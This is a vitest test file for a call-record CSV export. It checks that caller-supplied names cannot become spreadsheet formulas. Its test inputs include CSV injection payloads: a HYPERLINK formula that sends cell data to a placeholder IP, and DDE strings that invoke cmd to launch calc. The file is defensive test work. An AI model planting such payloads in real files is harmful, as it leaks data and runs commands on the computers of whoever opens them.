// Texts that callers choose, in a file that somebody opens in a spreadsheet.

import { afterAll, beforeAll, expect, test } from 'vitest'
import { jsonPage } from '../../conformance/restcomm/bodies.js'
import { type ScriptedServer, startScriptedServer } from '../../support/scripted/scripted-server.js'
import { type Stack, startStack } from '../../support/stack.js'
import { csvOf, ndjsonOf } from './exporting.js'

const TEXTS = [
  '=HYPERLINK("http://198.51.100.7/?"&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '+1-2',
  '\t=1+1',
  'line one\r\nline two',
  'says "hello", then\tgoes',
  'Søren 😀',
]
const ORDINARY = '+4570305050'

const calls = TEXTS.map((text, at) => ({
  sid: `CA${at}`,
  from: at === 0 ? text : ORDINARY,
  caller_name: text,
  to: ORDINARY,
  status: 'completed',
  start_time: `Tue, 03 Mar 2026 11:0${9 - at}:00 +0000`,
  price: '-0.5000',
  price_unit: 'USD',
}))

let vendor: ScriptedServer
let stack: Stack
beforeAll(async () => {
  vendor = await startScriptedServer((_request, response) => {
    const { body, contentType } = jsonPage(calls, calls.length, 0, 1000)
    response.writeHead(200, { 'content-type': contentType }).end(body)
  })
  const keys = { vendor: 'restcomm', url: vendor.origin, auth: { accountSid: 'AC1', authToken: 'demo-password' } }
  stack = await startStack({ vendors: [], sources: { restcomm: keys } })
})
afterAll(async () => {
  await stack?.close()
  await vendor?.close()
})

const COLUMNS = ['nativeId', 'caller.name', 'caller.number', 'callee.e164', 'price.amount']

test('no cell of CSV is a formula, and every text is there as it is', async () => {
  const { lines } = await csvOf(stack, `calls.csv?columns=${COLUMNS.join()}`)
  const { rows } = await ndjsonOf(stack, `calls.ndjson?columns=${COLUMNS.join()}`)
  expect(rows).toHaveLength(TEXTS.length)
  expect(lines.map((cells) => cells.length)).toEqual(TEXTS.map(() => COLUMNS.length + 1))
  const names = rows.map((row) => String(row['caller.name']))
  const written = lines.map((cells) => cells[1] ?? '')
  expect(written.map((cell) => cell.replace(/^'/, ''))).toEqual(names)
  expect(written.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  expect(lines[0]?.[2]).toMatch(/^'=HYPERLINK/)
  // Where a number is one, it stays one.
  expect(lines[1]?.slice(2)).toEqual([ORDINARY, ORDINARY, String(rows[1]?.['price.amount']), 'OK'])
})
